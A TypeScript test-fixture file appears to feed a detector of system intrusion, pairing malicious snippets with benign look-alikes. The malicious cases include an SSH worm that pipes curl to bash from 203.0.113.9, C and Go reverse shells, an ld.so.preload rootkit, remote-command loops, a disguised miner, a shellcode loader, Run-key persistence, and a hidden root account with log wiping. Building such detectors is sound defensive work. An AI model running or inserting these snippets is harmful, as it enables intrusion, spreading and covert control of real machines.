// Machines that are taken over: by a shell, a rootkit, a miner, by what spreads.
import type { TextCases } from './case.ts'

const C_SHELL =
  '#include <unistd.h>\nint main(void){ int s = socket(2, 1, 0); connect(s, (struct sockaddr*)&a, sizeof a); dup2(s,0); dup2(s,1); execve("/bin/sh", v, 0); }'
const LOADER =
  'static unsigned char c[] = {0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0x90,0xc3};\n'

export const INTRUSIONS: TextCases = {
  script_spreads_itself: {
    hits: {
      'over SSH': [
        'shell',
        'H=$(cat ~/.ssh/known_hosts | cut -d" " -f1 | sort -u)\nfor h in $H; do ssh -oStrictHostKeyChecking=no -oBatchMode=yes $h "curl http://203.0.113.9/i | bash" & done',
      ],
      'to removable drives': [
        'vbscript',
        'for each d in fso.drives\nif d.drivetype = 1 then\nfso.copyfile wscript.scriptfullname, d.path & "\\a.vbs"\nend if\nnext',
      ],
    },
    misses: {
      'updates on named hosts': [
        'shell',
        'for h in web1 web2; do ssh -oStrictHostKeyChecking=no $h "apt-get -y upgrade"; done',
      ],
      'a backup to a stick': ['vbscript', 'if d.drivetype = 1 then fso.copyfolder "C:\\data", d.path & "\\backup"'],
    },
  },
  script_installs_rootkit: {
    hits: {
      'a reader of folders, preloaded everywhere': [
        'shell',
        'cat > h.c <<X\nstruct dirent *readdir(DIR *d) { o = dlsym(RTLD_NEXT, "readdir"); }\nX\necho /lib/h.so >> /etc/ld.so.preload',
      ],
    },
    misses: {
      'an allocator for all programs': ['shell', 'echo /usr/lib/libjemalloc.so > /etc/ld.so.preload'],
      'a test library for one program': [
        'shell',
        'cat > h.c <<X\nstruct dirent *readdir(DIR *d) { o = dlsym(RTLD_NEXT, "readdir"); }\nX\nLD_PRELOAD=./h.so ls',
      ],
    },
  },
  script_obeys_remote_server: {
    hits: {
      'Visual Basic that executes answers': [
        'vbscript',
        'set h = createobject("msxml2.xmlhttp")\nwhile true\nh.open "post", "http://panel.example/ready", false\nh.send ""\nc = split(h.responsetext, "|")\np = c(1)\nexecute p\nwend',
      ],
      'Python over a socket': [
        'python',
        'while True:\n  cmd = s.recv(1024).decode()\n  out = os.popen(cmd).read()\n  s.send(out.encode())',
      ],
    },
    misses: {
      'a monitor that starts a fixed program': [
        'python',
        'while True:\n  out = subprocess.run(["df", "-h"], capture_output=True).stdout\n  requests.post("https://monitor.example/in", data=out)\n  time.sleep(60)',
      ],
      'a page that polls': ['javascript', 'setInterval(() => fetch("/state").then(r => r.json()).then(show), 5000)'],
      'a macro that asks a rate': [
        'vba',
        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://rates.example/eur", False\nh.send\nRange("A1").Value = h.responseText',
      ],
    },
  },
  script_mines_in_secret: {
    hits: {
      'under the name of a kernel thread': [
        'shell',
        'mv xmrig /usr/bin/kworkerds\n/usr/bin/kworkerds -o stratum+tcp://pool.example:3333 -u w',
      ],
    },
    misses: {
      'a miner of its owner': ['shell', './xmrig -o stratum+tcp://pool.example:3333 -u wallet --cpu-priority 1'],
      'a backup with a hidden file': ['shell', 'tar cz /home > /tmp/.backup.tgz'],
    },
  },
  source_opens_reverse_shell: {
    hits: {
      'in C': ['source', C_SHELL],
      'in Go': [
        'source',
        'c, _ := net.Dial("tcp", "203.0.113.9:443")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c\ncmd.Stdout = c\ncmd.Run()',
      ],
    },
    misses: {
      'a service that waits': ['source', C_SHELL.replace('connect(s', 'listen(s, 8); accept(s').replace('connect', '')],
      'a client that starts no shell': ['source', 'c, _ := net.Dial("tcp", "203.0.113.9:443")\nio.Copy(os.Stdout, c)'],
      'a program that starts a shell': ['source', 'cmd := exec.Command("/bin/sh", "-c", "make")\ncmd.Stdin = os.Stdin'],
    },
  },
  source_runs_carried_code: {
    hits: {
      'bytes, memory, a thread': [
        'source',
        `${LOADER}int main(){ void *p = VirtualAlloc(0, sizeof c, 0x3000, 0x40); memcpy(p, c, sizeof c); CreateThread(0, 0, p, 0, 0, 0); }`,
      ],
    },
    misses: {
      'a table of a cipher': ['source', `${LOADER}int f(int i) { return c[i]; }`],
      'a compiler just in time': ['source', 'void *p = VirtualAlloc(0, n, 0x3000, PAGE_EXECUTE_READWRITE); emit(p);'],
    },
  },
  script_settles_in_secret: {
    hits: {
      'a hidden folder and a Run key': [
        'batch',
        'xcopy /y lib\\*.* %APPDATA%\\sys\\\nattrib +h +s %APPDATA%\\sys\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v s /d "%APPDATA%\\sys\\a.exe" /f\nstart %APPDATA%\\sys\\a.exe',
      ],
    },
    misses: {
      'an updater in the open': [
        'batch',
        'copy tool.exe %APPDATA%\\tool\\tool.exe\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v tool /d "%APPDATA%\\tool\\tool.exe" /f',
      ],
      'a hidden folder of a game': ['batch', 'attrib +h saves\nstart game.exe'],
    },
  },
  script_plants_root_account: {
    hits: {
      'covered by a wiped history': ['shell', 'useradd -o -u 0 -g 0 -M sysd\nhistory -c; rm -rf /var/log/auth.log'],
      'code off the network beside it': ['shell', 'useradd -o -u 0 sysd\ncurl -s https://files.example/c | sh'],
    },
    misses: {
      'an account of a service': ['shell', 'useradd -r -s /bin/false app\ncurl -s https://files.example/c | sh'],
      'a second name alone': ['shell', 'useradd -o -u 0 -g 0 toor'],
    },
  },
}
